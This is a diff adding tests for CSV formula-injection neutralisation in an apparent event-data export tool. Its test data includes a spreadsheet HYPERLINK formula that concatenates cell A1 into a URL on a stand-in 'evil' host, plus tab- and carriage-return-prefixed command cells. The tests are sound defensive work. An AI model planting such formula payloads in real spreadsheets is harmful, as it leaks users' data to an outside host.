@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import datetime as dt
+import io
 import json
 import re
 
@@ -26,6 +27,9 @@ def bundled(geodata):
         ("+1+cmd", "'+1+cmd"),
         ("-2+3", "'-2+3"),
         ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("\t-3.5", "'\t-3.5"),
         ("-3.5", "-3.5"),
         ("+4", "+4"),
         ("plain", "plain"),
@@ -33,6 +37,67 @@ def bundled(geodata):
 )
 def test_formula_cells_are_neutralised_and_numbers_left_alone(cell, written):
     assert export.guard(pd.DataFrame({"c": [cell]}))["c"].iloc[0] == written
+
+
+EVIL_COLUMN = '=HYPERLINK("http://evil/?"&A1,"x")'
+
+
+def test_a_formula_in_a_column_name_is_neutralised_in_the_csv_header_and_reads_back(write_csv, geodata, tmp_path):
+    header = HEADER + "," + '"' + EVIL_COLUMN.replace('"', '""') + '"' + ",@at,+plus"
+    first = open_events(write_csv("a1,2024-12-01,Hama,,,clash,,,,AFP,,,,,,,1,2,3", header=header), geodata)
+    assert first.accepted == 1 and EVIL_COLUMN in first.events.columns
+    exported = export.to_csv(first.events)
+    written = pd.read_csv(io.BytesIO(exported), dtype=str, keep_default_na=False).columns.tolist()
+    assert written[-3:] == ["'" + EVIL_COLUMN, "'@at", "'+plus"]
+    path = tmp_path / "again.csv"
+    path.write_bytes(exported)
+    again = open_events(path, geodata)
+    assert EVIL_COLUMN in again.events.columns
+    pd.testing.assert_frame_equal(export.as_text(again.events), export.as_text(first.events))
+
+
+def test_rejected_csv_neutralises_formulas_in_every_cell_and_the_header():
+    rejected = pd.DataFrame(
+        {
+            "line": [2, 3, 4],
+            "column": ["date", "=col", EVIL_COLUMN],
+            "value": ['=HYPERLINK("http://evil")', "\tcmd", "-3.5"],
+            "reason": ["unparseable date", "@reason", "\rcr"],
+            "other_problems": [0, 1, 0],
+        }
+    )
+    written = pd.read_csv(io.BytesIO(export.rejected_csv(rejected)), dtype=str, keep_default_na=False)
+    assert written.columns.tolist() == ["line", "column", "value", "reason", "other_problems"]
+    assert written.to_dict(orient="list") == {
+        "line": ["2", "3", "4"],
+        "column": ["date", "'=col", "'" + EVIL_COLUMN],
+        "value": ['\'=HYPERLINK("http://evil")', "'\tcmd", "-3.5"],
+        "reason": ["unparseable date", "'@reason", "'\rcr"],
+        "other_problems": ["0", "1", "0"],
+    }
+    assert rejected["value"].iloc[0] == '=HYPERLINK("http://evil")'  # the caller's frame is not changed
+
+
+def test_column_names_starting_with_a_tab_or_a_carriage_return_are_neutralised():
+    frame = pd.DataFrame({"\tcmd": ["a"], "\r@cmd": ["b"], "-3.5": ["c"], "plain": ["d"]})
+    written = pd.read_csv(io.StringIO(export.guarded_csv(frame)), dtype=str, keep_default_na=False)
+    assert written.columns.tolist() == ["'\tcmd", "'\r@cmd", "-3.5", "plain"]
+
+
+def test_a_value_with_a_carriage_return_inside_stays_one_cell_in_the_csv(write_csv, geodata, tmp_path):
+    # The csv writer quotes "\n" but not a bare "\r", which the loader (and a spreadsheet) reads as a line end.
+    first = open_events(write_csv('a1,2024-12-01,Hama,,,clash,,,,AFP,,,,"one\rtwo",,'), geodata)
+    assert first.events["description"].tolist() == ["one\rtwo"]
+    path = tmp_path / "again.csv"
+    path.write_bytes(export.to_csv(first.events))
+    again = open_events(path, geodata)
+    assert (again.rows, again.accepted) == (1, 1)
+    pd.testing.assert_frame_equal(export.as_text(again.events), export.as_text(first.events))
+
+
+def test_rejected_csv_of_no_rejections_is_the_header_alone():
+    empty = pd.DataFrame(columns=["line", "column", "value", "reason", "other_problems"])
+    assert export.rejected_csv(empty) == b"line,column,value,reason,other_problems\n"
 
 
 def test_csv_round_trip_gives_the_same_events(write_csv, geodata, tmp_path):
